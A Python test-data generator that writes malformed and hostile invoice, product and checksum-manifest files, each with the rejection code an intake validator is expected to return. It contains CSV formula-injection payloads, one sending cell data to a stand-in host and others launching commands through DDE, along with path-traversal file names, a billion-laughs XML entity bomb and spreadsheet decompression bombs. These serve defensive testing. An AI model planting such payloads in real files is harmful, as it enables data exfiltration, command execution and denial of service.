"""Generator of the bad-input corpus and of valid partner files, for the checks tests and the e2e tests.

All bad inputs of :func:`make_bad_inputs` are *invoice* files (suite ``BAD_INPUT_SUITE``);
``expected_reason_code`` is what ``validate_file(path, "invoice").reason_code`` must be (None: the
file must pass). Two smaller corpora cover what an invoice cannot carry: product files
(:func:`make_product_bad_inputs`, suite ``product_file``: codes stored as numbers) and invoices with a
checksum manifest next to them (:func:`make_manifest_bad_inputs`: decided by the intake, not the checks).

    from tests.data.bad_inputs import make_bad_inputs, make_valid_file, ODD_NAMES, TEMP_NAMES
    corpus = make_bad_inputs(tmp_path)          # {"truncated_last_row": (Path, "truncated"), ...}
    good = make_valid_file(tmp_path, "invoice", rows=100)
"""
from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import random
from pathlib import Path

BAD_INPUT_SUITE = "invoice"
DOC_TYPES = ("invoice", "purchase_order", "shipping_manifest", "compliance_certificate", "product_file")

#: File names with odd characters; the content is valid, the file must pass and keep its name.
ODD_NAMES = (
    "invoice 2026 11.csv",
    "Rechnung_Müller_ÄÖÜ_ß.csv",
    "请求书_2026.csv",
    "facture l'été.csv",
    'quote"double.csv',
    "semi;colon & amp.csv",
    "tab\there.csv",
    "   leading-spaces.csv",
    "trailing-dot.csv.",
    "emoji_📦.csv",
    "UPPER.CSV",
    "-starts-with-dash.csv",
    "#hash%percent.csv",
)
#: Names of files still being uploaded or editor/OS leftovers: intake must skip them, never process.
TEMP_NAMES = (
    "invoice.csv.part",
    "invoice.csv.filepart",
    "invoice.csv.tmp",
    ".invoice.csv.swp",
    "~$invoice.xlsx",
    ".~lock.invoice.csv#",
    "invoice.csv.crdownload",
    ".DS_Store",
    "Thumbs.db",
    "invoice.csv~",
)
#: Names a hostile or broken client might send; intake must refuse them (no path traversal).
TRAVERSAL_NAMES = (
    "../invoice.csv",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "sub/../../invoice.csv",
    "invoice.csv\x00.txt",
    "..",
    ".",
)


_BASE_DATE = dt.date(2026, 1, 5)
_CURRENCIES = ("EUR", "USD", "GBP", "CHF", "SEK", "PLN", "JPY")
_COUNTRIES = ("DE", "FR", "NL", "PL", "US", "CN", "SE", "IT")
_NOTES = ("", "", "", 'Teillieferung "A", Rest folgt', "Müller & Söhne – Zahlung 30 Tage", "ok; bitte prüfen", "発注済み")

HEADERS = {
    "invoice": ["invoice_number", "invoice_date", "due_date", "po_number", "supplier_id", "currency", "amount", "tax_amount", "notes"],
    "purchase_order": ["po_number", "order_date", "buyer_id", "supplier_id", "currency", "total_amount", "requested_delivery_date", "incoterm"],
    "shipping_manifest": ["sscc", "shipment_id", "po_number", "ship_date", "carrier", "package_count", "gross_weight_kg", "destination_country"],
    "compliance_certificate": ["certificate_id", "supplier_id", "product_sku", "standard", "issued_date", "expiry_date", "issuing_body"],
    "product_file": ["sku", "gtin", "name", "unit_of_measure", "net_weight_kg", "country_of_origin", "hs_code", "list_price", "currency"],
}


def valid_rows(doc_type: str, rows: int, seed: int = 0) -> tuple[list[str], list[list[str]]]:
    """Header and ``rows`` valid data rows for ``doc_type`` (deterministic for a seed)."""
    if doc_type not in HEADERS:
        raise ValueError(f"unknown document type {doc_type!r}; one of {DOC_TYPES}")
    rng = random.Random(seed)
    out = []
    for i in range(rows):
        day = _BASE_DATE + dt.timedelta(days=i % 300)
        if doc_type == "invoice":
            amount = round(rng.uniform(1, 50_000), 2)
            out.append([
                f"INV-{seed:02d}{i:08d}", day.isoformat(), (day + dt.timedelta(days=30)).isoformat(), f"PO-{i:08d}",
                f"SUP-{rng.randrange(1, 500):04d}", rng.choice(_CURRENCIES), f"{amount:.2f}", f"{amount * 0.19:.2f}",
                rng.choice(_NOTES),
            ])
        elif doc_type == "purchase_order":
            out.append([
                f"PO-{seed:02d}{i:08d}", day.isoformat(), f"BUY-{rng.randrange(1, 50):03d}", f"SUP-{rng.randrange(1, 500):04d}",
                rng.choice(_CURRENCIES), f"{rng.uniform(10, 250_000):.2f}", (day + dt.timedelta(days=14)).isoformat(),
                rng.choice(("", "EXW", "FCA", "DAP", "DDP", "FOB", "CIF")),
            ])
        elif doc_type == "shipping_manifest":
            out.append([
                f"{340_123_450_000_000_000 + seed * 10_000_000 + i:018d}", f"SHP-{i // 10:07d}", f"PO-{i // 10:08d}",
                day.isoformat(), rng.choice(("DHL", "DB Schenker", "UPS", "Kuehne+Nagel")), str(rng.randrange(1, 40)),
                f"{rng.uniform(0.5, 900):.1f}", rng.choice(_COUNTRIES),
            ])
        elif doc_type == "compliance_certificate":
            out.append([
                f"CERT-{seed:02d}{i:08d}", f"SUP-{rng.randrange(1, 500):04d}", f"SKU-{rng.randrange(1, 10**6):08d}",
                rng.choice(("ISO 9001", "ISO 14001", "REACH", "RoHS", "CE", "FSC")), day.isoformat(),
                (day + dt.timedelta(days=3 * 365)).isoformat(), rng.choice(("TÜV SÜD", "Bureau Veritas", "SGS", "DEKRA")),
            ])
        else:  # product_file
            out.append([
                f"SKU-{seed:02d}{i:08d}", "" if i % 7 == 3 else f"{4_006_381_000_000 + seed * 10_000_000 + i:013d}",
                f"Edelstahl-Schraube M{rng.randrange(3, 12)} × {rng.randrange(10, 90)} mm, \"DIN 912\"",
                rng.choice(("EA", "PK", "BOX", "KG")), f"{rng.uniform(0.001, 20):.3f}", rng.choice(_COUNTRIES),
                rng.choice(("731815", "0901210000", "847130")), f"{rng.uniform(0.05, 900):.2f}", rng.choice(_CURRENCIES),
            ])
    return list(HEADERS[doc_type]), out


def csv_text(header: list[str], rows: list[list[str]], delimiter: str = ",", line_end: str = "\n") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=line_end)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def make_valid_file(
    directory: str | Path,
    doc_type: str,
    rows: int = 10,
    *,
    fmt: str = "csv",
    name: str | None = None,
    seed: int = 0,
) -> Path:
    """Write a valid ``doc_type`` file of ``rows`` data rows (deterministic for a seed) and return its path.

    CSV is written in blocks, so a few million rows are fine (about 4 s per million on this machine).
    """
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / (name or f"{doc_type}_{rows}.{fmt}")
    if fmt == "xlsx":
        header, data = valid_rows(doc_type, rows, seed)
        _write_xlsx(path, header, data)
        return path
    if fmt != "csv":
        raise ValueError("fmt must be csv or xlsx")
    block = 100_000
    with open(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(HEADERS[doc_type])
        for start in range(0, rows, block):
            _, data = valid_rows(doc_type, min(block, rows - start), seed)
            if start:  # keep keys unique across blocks: rows of later blocks get the next numbers
                data = _renumber(doc_type, data, start, seed)
            writer.writerows(data)
    return path


def _renumber(doc_type: str, data: list[list[str]], start: int, seed: int) -> list[list[str]]:
    for offset, row in enumerate(data):
        i = start + offset
        if doc_type == "invoice":
            row[0], row[3] = f"INV-{seed:02d}{i:08d}", f"PO-{i:08d}"
        elif doc_type == "purchase_order":
            row[0] = f"PO-{seed:02d}{i:08d}"
        elif doc_type == "shipping_manifest":
            row[0], row[1], row[2] = f"{340_123_450_000_000_000 + seed * 10_000_000 + i:018d}", f"SHP-{i // 10:07d}", f"PO-{i // 10:08d}"
        elif doc_type == "compliance_certificate":
            row[0] = f"CERT-{seed:02d}{i:08d}"
        else:
            row[0] = f"SKU-{seed:02d}{i:08d}"
            row[1] = "" if i % 7 == 3 else f"{4_006_381_000_000 + seed * 10_000_000 + i:013d}"
    return data


def _write_xlsx(path: Path, header: list[str], rows: list[list], formula_cells: dict[tuple[int, int], str] | None = None) -> None:
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Sheet1")
    sheet.append(header)
    for r, row in enumerate(rows):
        values = [v if v != "" else None for v in row]
        for (fr, fc), formula in (formula_cells or {}).items():
            if fr == r:
                values[fc] = formula
        sheet.append(values)
    workbook.save(path)


# ---------------------------------------------------------------- XLSX written part by part (hostile shapes)

XLSX_MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
XLSX_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
XLSX_WORKBOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSX_MACRO_WORKBOOK_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def xlsx_rows_xml(header: list[str], rows: list[list[str]]) -> bytes:
    """``<row>`` elements of inline-string cells (header first), as a spreadsheet writes them."""
    from xml.sax.saxutils import escape

    def column(i: int) -> str:
        return column(i // 26 - 1) + chr(65 + i % 26) if i >= 26 else chr(65 + i)

    out = []
    for r, values in enumerate([header] + rows, start=1):
        cells = "".join(f'<c r="{column(i)}{r}" t="inlineStr"><is><t>{escape(v)}</t></is></c>'
                        for i, v in enumerate(values) if v != "")
        out.append(f'<row r="{r}">{cells}</row>')
    return "".join(out).encode("utf-8")


def xlsx_worksheet(rows_xml, *, dimension: str | None = None, before: bytes = b"", after: bytes = b""):
    """The pieces of a worksheet part; ``rows_xml`` is bytes or an iterable of bytes (streamed)."""
    yield f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{XLSX_MAIN_NS}" xmlns:r="{XLSX_REL}">'.encode()
    if dimension:
        yield f'<dimension ref="{dimension}"/>'.encode()
    yield b"<sheetData>" + before
    yield from ([rows_xml] if isinstance(rows_xml, bytes) else rows_xml)
    yield b"</sheetData>" + after + b"</worksheet>"


def write_xlsx_package(path: str | Path, sheet, *, shared_strings=None, parts: dict | None = None,
                       overrides: dict[str, str] | None = None, workbook_rels: list[tuple[str, str, str]] = (),
                       sheet_rels: list[tuple[str, str, str]] = (), workbook_type: str = XLSX_WORKBOOK_TYPE,
                       prolog: bytes = b"", level: int = 6) -> Path:
    """A minimal workbook written with zipfile, one part at a time: what openpyxl needs and nothing else.

    ``sheet`` / ``shared_strings`` / the values of ``parts`` are bytes or iterables of bytes (written as
    they come, so a part of gigabytes never sits in memory or on disk uncompressed). ``overrides``:
    extra content types by part name; ``workbook_rels`` / ``sheet_rels``: ``(type, target, target_mode)``
    (type relative to the officeDocument relationships unless it is a full URI). ``prolog`` goes
    before the sheet's root element (a DOCTYPE, say).
    """
    import zipfile

    path = Path(path)
    types = {"/xl/workbook.xml": workbook_type,
             "/xl/worksheets/sheet1.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"}
    rels = [("worksheet", "worksheets/sheet1.xml", "")] + list(workbook_rels)
    if shared_strings is not None:
        types["/xl/sharedStrings.xml"] = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
        rels.append(("sharedStrings", "sharedStrings.xml", ""))
    types.update(overrides or {})

    def relationships(items) -> bytes:
        lines = "".join(
            f'<Relationship Id="rId{i}" Type="{kind if "://" in kind else XLSX_REL + "/" + kind}" Target="{target}"'
            + (f' TargetMode="{mode}"' if mode else "") + "/>" for i, (kind, target, mode) in enumerate(items, start=1))
        return f'<Relationships xmlns="{_PACKAGE_RELS}">{lines}</Relationships>'.encode()

    content_types = "".join(f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in types.items())
    members = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Default Extension="xml" ContentType="application/xml"/>{content_types}</Types>').encode(),
        "_rels/.rels": relationships([("officeDocument", "xl/workbook.xml", "")]),
        "xl/workbook.xml": (f'<workbook xmlns="{XLSX_MAIN_NS}" xmlns:r="{XLSX_REL}"><sheets>'
                            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>').encode(),
        "xl/_rels/workbook.xml.rels": relationships(rels),
        "xl/worksheets/sheet1.xml": sheet if prolog == b"" else (b for part in ([prolog], sheet) for b in part),
    }
    if sheet_rels:
        members["xl/worksheets/_rels/sheet1.xml.rels"] = relationships(sheet_rels)
    if shared_strings is not None:
        members["xl/sharedStrings.xml"] = shared_strings
    members.update(parts or {})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members.items():
            with archive.open(name, "w", force_zip64=True) as member:
                for piece in [content] if isinstance(content, bytes) else content:
                    member.write(piece)
    return path


def _write_hostile_xlsx(xlsx, header: list[str], rows: list[list[str]]) -> dict[str, tuple[Path, str | None]]:
    """Small on disk, each refused before openpyxl reads it (include/checks/xlsx_guard.py)."""
    body = xlsx_rows_xml(header, rows)
    sheet = lambda **kw: xlsx_worksheet(body, **kw)  # noqa: E731
    laughs = (b'<!DOCTYPE worksheet [<!ENTITY a "hahahahahahahahahaha">'
              + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9)) + b"]>")
    return {
        "xlsx_minimal_valid": (write_xlsx_package(xlsx("xlsx_minimal_valid"), sheet()), None),
        "xlsx_with_hyperlink": (write_xlsx_package(
            xlsx("xlsx_with_hyperlink"), sheet(), sheet_rels=[("hyperlink", "https://example.com/inv", "External")]), None),
        "xlsx_macro_enabled": (write_xlsx_package(
            xlsx("xlsx_macro_enabled"), sheet(), workbook_type=XLSX_MACRO_WORKBOOK_TYPE,
            parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really a VBA project"},
            workbook_rels=[("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", "")]),
            "xlsx_active_content"),
        "xlsx_external_link": (write_xlsx_package(
            xlsx("xlsx_external_link"), sheet(),
            parts={"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{XLSX_MAIN_NS}"/>'.encode(),
                   "xl/externalLinks/_rels/externalLink1.xml.rels": (
                       f'<Relationships xmlns="{_PACKAGE_RELS}"><Relationship Id="rId1" Type="{XLSX_REL}/externalLinkPath" '
                       'Target="file:///\\\\fileserver\\prices.xlsx" TargetMode="External"/></Relationships>').encode()},
            workbook_rels=[("externalLink", "externalLinks/externalLink1.xml", "")]), "xlsx_external_links"),
        "xlsx_dimension_bomb": (write_xlsx_package(xlsx("xlsx_dimension_bomb"), sheet(dimension="A1:XFD1048576")),
                                "xlsx_too_many_columns"),
        # one more row, numbered 1,048,576,000: a reader would fill in a billion empty rows before it
        "xlsx_row_number_bomb": (write_xlsx_package(
            xlsx("xlsx_row_number_bomb"),
            xlsx_worksheet([body, b'<row r="1048576000"><c r="A1048576000"><v>1</v></c></row>'])), "xlsx_too_many_rows"),
        "xlsx_whitespace_bomb": (write_xlsx_package(
            xlsx("xlsx_whitespace_bomb"), xlsx_worksheet([body] + [b" " * (1 << 20)] * 16), level=1),
            "xlsx_compression_ratio"),
        "xlsx_billion_laughs": (write_xlsx_package(xlsx("xlsx_billion_laughs"), sheet(), prolog=laughs),
                                "xlsx_xml_dtd"),
        "xlsx_long_shared_string": (write_xlsx_package(
            xlsx("xlsx_long_shared_string"),
            xlsx_worksheet([body, b'<row r="99"><c r="A99" t="s"><v>0</v></c></row>']),
            shared_strings=f'<sst xmlns="{XLSX_MAIN_NS}"><si><t>{"Lorem ipsum " * 4_000}</t></si></sst>'.encode()),
            "xlsx_string_too_long"),
    }


def make_bad_inputs(directory: str | Path) -> dict[str, tuple[Path, str | None]]:
    """Write the bad-input corpus into ``directory`` and return ``{name: (path, expected_reason_code)}``.

    Every file is an invoice file for suite ``invoice``; the expected code is what
    ``validate_file(path, "invoice").reason_code`` returns (None: the file passes). Decisions shown here:
    a UTF-8 BOM is accepted (passes); ``-5.00`` in ``amount`` is a number, not a formula cell (it fails
    ``amount > 0`` instead); the odd-name files are valid and must pass under their odd names.
    """
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    header, rows = valid_rows("invoice", 12, seed=7)
    good = csv_text(header, rows)
    corpus: dict[str, tuple[Path, str | None]] = {}

    def put(name: str, content: bytes | str, expected: str | None, file_name: str | None = None) -> None:
        path = directory / (file_name or f"{name}.csv")
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
        corpus[name] = (path, expected)

    def with_cell(row: int, column: str, value: str) -> str:
        changed = [list(r) for r in rows]
        changed[row][header.index(column)] = value
        return csv_text(header, changed)

    put("valid", good, None)
    put("zero_bytes", b"", "zero_bytes")
    put("empty", "\n  \r\n\t\n", "empty")
    put("header_only", ",".join(header) + "\n", "header_only")
    put("header_only_crlf_blank_lines", ",".join(header) + "\r\n\r\n\r\n", "header_only")
    put("bom", codecs.BOM_UTF8 + good.encode("utf-8"), None)
    put("crlf_line_endings", csv_text(header, rows, line_end="\r\n"), None)
    put("blank_lines", good.replace("\n", "\n\n", 3) + "\n\n", None)
    put("quoted_newline", with_cell(2, "notes", "Zeile 1\nZeile 2"), None)
    put("non_utf8", with_cell(4, "notes", "Müller, Straße").encode("cp1252"), "not_utf8")
    put("utf16", good.encode("utf-16"), "not_utf8")
    put("cut_multibyte", good.encode("utf-8") + "ü".encode("utf-8")[:1], "not_utf8")
    put("wrong_delimiter", csv_text(header, rows, delimiter=";"), "wrong_delimiter")
    put("tab_delimited", csv_text(header, rows, delimiter="\t"), "wrong_delimiter")
    lines = good.rstrip("\n").split("\n")
    put("truncated_last_row", "\n".join(lines[:-1]) + "\n" + lines[-1][: len(lines[-1]) // 2], "truncated")
    put("truncated_in_quotes", good + 'INV-0999999999,2026-02-01,2026-03-03,PO-00000001,SUP-0001,EUR,10.00,1.90,"Teil', "truncated")
    extra = lines[:5] + [lines[5] + ",surplus"] + lines[6:]
    put("extra_field_middle", "\n".join(extra) + "\n", "field_count_mismatch")
    short = lines[:5] + [",".join(lines[5].split(",")[:4])] + lines[6:]
    put("short_row_middle", "\n".join(short) + "\n", "field_count_mismatch")
    put("bad_quoting", good.replace(lines[3], '"INV"X' + lines[3][5:]), "malformed_csv")
    missing = header.index("currency")
    put(
        "missing_column",
        csv_text([h for h in header if h != "currency"], [[v for j, v in enumerate(r) if j != missing] for r in rows]),
        "missing_columns",
    )
    put("duplicate_column", csv_text(header + ["amount"], [r + ["1.00"] for r in rows]), "duplicate_columns")
    # 10 MB on one line, no line break at all: must fail fast without reading it into memory.
    line = (",".join(header) + ",").encode()
    put("single_line_10mb", (line * (10 * 1024 * 1024 // len(line) + 1))[: 10 * 1024 * 1024], "line_too_long")
    put("formula_equals", with_cell(1, "notes", '=HYPERLINK("http://evil.example/?x="&A1,"Details")'), "formula_cells")
    put("formula_plus", with_cell(2, "supplier_id", "+cmd|' /C calc'!A0"), "formula_cells")
    put("formula_minus", with_cell(3, "notes", "-2+3+cmd|' /C calc'!A0"), "formula_cells")
    put("formula_at", with_cell(4, "notes", "@SUM(1+9)*cmd|' /C calc'!A0"), "formula_cells")
    put("formula_tab", with_cell(5, "notes", "\t=1+1"), "formula_cells")
    # A header cell runs like any other (invoice allows extra columns, so only the formula refuses it).
    put("formula_in_header", csv_text(header + ['=HYPERLINK("http://evil.example/?x="&A1,"Details")'],
                                      [r + ["1"] for r in rows]), "formula_cells")
    # NUL: no database column can hold it; refused with its row and column (PostgreSQL would refuse the load).
    put("nul_in_cell", with_cell(3, "notes", "Teil\x00lieferung"), "nul_byte")
    put("nul_in_header", csv_text(header[:-1] + ["no\x00tes"], rows), "nul_byte")
    # Other control characters are data: they pass, and are escaped wherever they are shown or sent.
    put("control_chars_in_cell", with_cell(5, "notes", "Klingel\x07 ESC\x1b[31m rot NEL\x85 RLO\u202e Ende"), None)
    put("negative_amount", with_cell(6, "amount", "-5.00"), "expectations_failed")
    dup = [list(r) for r in rows]
    dup[9][0] = dup[2][0]
    put("duplicate_invoice_number", csv_text(header, dup), "expectations_failed")
    bad = [list(r) for r in rows]
    bad[1][header.index("currency")] = "EURO"
    bad[2][header.index("invoice_date")] = "2026-13-01"
    bad[3][header.index("amount")] = "12,50"
    bad[4][header.index("po_number")] = ""
    put("bad_values", csv_text(header, bad), "expectations_failed")

    xlsx = lambda name: directory / f"{name}.xlsx"  # noqa: E731
    _write_xlsx(xlsx("xlsx_valid"), header, rows)
    corpus["xlsx_valid"] = (xlsx("xlsx_valid"), None)
    _write_xlsx(xlsx("xlsx_formula"), header, rows, {(3, header.index("notes")): "=1+1"})
    corpus["xlsx_formula"] = (xlsx("xlsx_formula"), "formula_cells")
    _write_xlsx(xlsx("xlsx_formula_in_header"), header + ["=1+1"], [r + ["1"] for r in rows])
    corpus["xlsx_formula_in_header"] = (xlsx("xlsx_formula_in_header"), "formula_cells")
    _write_xlsx(xlsx("xlsx_header_only"), header, [])
    corpus["xlsx_header_only"] = (xlsx("xlsx_header_only"), "header_only")
    xlsx("xlsx_corrupt").write_bytes(b"PK\x03\x04 this is not really a zip archive")
    corpus["xlsx_corrupt"] = (xlsx("xlsx_corrupt"), "not_xlsx")
    xlsx("xlsx_is_csv").write_text(good, encoding="utf-8")
    corpus["xlsx_is_csv"] = (xlsx("xlsx_is_csv"), "not_xlsx")
    corpus.update(_write_hostile_xlsx(xlsx, header, rows))

    odd_dir = directory / "odd_names"
    odd_dir.mkdir(exist_ok=True)
    for i, odd in enumerate(ODD_NAMES):
        path = odd_dir / odd
        path.write_text(good, encoding="utf-8")
        corpus[f"odd_name_{i}"] = (path, None)
    return corpus


#: Suite of :func:`make_product_bad_inputs`.
PRODUCT_SUITE = "product_file"


def make_product_bad_inputs(directory: str | Path) -> dict[str, tuple[Path, str | None]]:
    """Product files (suite ``product_file``) whose codes a spreadsheet turned into numbers, and valid
    ones: ``{name: (path, expected_reason_code)}`` like :func:`make_bad_inputs`. File names start with
    ``PRODUCTS_`` (a registry can tell them from invoices by that)."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    header, rows = valid_rows("product_file", 8, seed=5)
    gtin, hs_code = header.index("gtin"), header.index("hs_code")
    corpus: dict[str, tuple[Path, str | None]] = {}

    def changed(row: int, column: int, value) -> list[list]:
        out = [list(r) for r in rows]
        out[row][column] = value
        return out

    def put_csv(name: str, data: list[list], expected: str | None) -> None:
        path = directory / f"PRODUCTS_{name}.csv"
        path.write_text(csv_text(header, data), encoding="utf-8")
        corpus[name] = (path, expected)

    def put_xlsx(name: str, data: list[list], expected: str | None) -> None:
        path = directory / f"PRODUCTS_{name}.xlsx"
        _write_xlsx(path, header, data)
        corpus[name] = (path, expected)

    put_csv("product_valid", rows, None)
    # Excel shows a 13-digit number as 4.00638E+12 and a CSV saved from it keeps just that.
    put_csv("gtin_scientific_notation", changed(2, gtin, "4.00638E+12"), "code_as_number")
    put_xlsx("xlsx_product_valid", rows, None)  # GTINs as text cells
    # A float that lost digits: openpyxl (like Excel) stores 4006380000000, which looks like a GTIN-13.
    put_xlsx("xlsx_gtin_number_cell", changed(3, gtin, 4.00638e12), "code_as_number")
    put_xlsx("xlsx_hs_code_number_cell", changed(1, hs_code, 901210000), "code_as_number")  # leading 0 gone
    # The value as some writers store it: <v>4.00638E+12</v> (a float cell).
    assert gtin == 1  # column B
    as_float = xlsx_rows_xml(header, changed(4, gtin, "")).replace(  # data row 4 is sheet row 6
        b'<c r="C6"', b'<c r="B6"><v>4.00638E+12</v></c><c r="C6"', 1)
    path = write_xlsx_package(directory / "PRODUCTS_xlsx_gtin_float_exponent.xlsx", xlsx_worksheet(as_float))
    corpus["xlsx_gtin_float_exponent"] = (path, "code_as_number")
    return corpus


def make_manifest_bad_inputs(directory: str | Path) -> dict[str, tuple[Path, str | None]]:
    """Valid invoices, each with a checksum manifest ``<name>.sha256`` next to it (``path`` names the
    invoice): ``{name: (path, expected_reason_code)}``; ``manifest_mismatch`` when the intake must refuse
    the manifest. A manifest names each file once: a second line for the same name, contradicting or
    not, makes it vouch for nothing."""
    import hashlib

    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    corpus: dict[str, tuple[Path, str | None]] = {}

    def put(name: str, lines: list[str], expected: str | None, seed: int) -> None:
        header, rows = valid_rows("invoice", 6, seed=seed)
        path = directory / f"MANIFESTED-{name}.csv"
        path.write_text(csv_text(header, rows), encoding="utf-8")
        digest = hashlib.sha256(path.read_bytes()).hexdigest()
        text = "".join(line.format(digest=digest, other="0" * 64, name=path.name) + "\n" for line in lines)
        path.with_name(path.name + ".sha256").write_text(text, encoding="utf-8")
        corpus[name] = (path, expected)

    put("manifest_valid", ["{digest}  {name}"], None, seed=61)
    put("manifest_names_others_too", ["{other}  OTHER.csv", "{digest} *{name}"], None, seed=62)
    put("manifest_contradicting_line", ["{digest}  {name}", "{other}  {name}"], "manifest_mismatch", seed=63)
    put("manifest_repeated_line", ["{digest}  {name}", "{digest}  {name}"], "manifest_mismatch", seed=64)
    return corpus
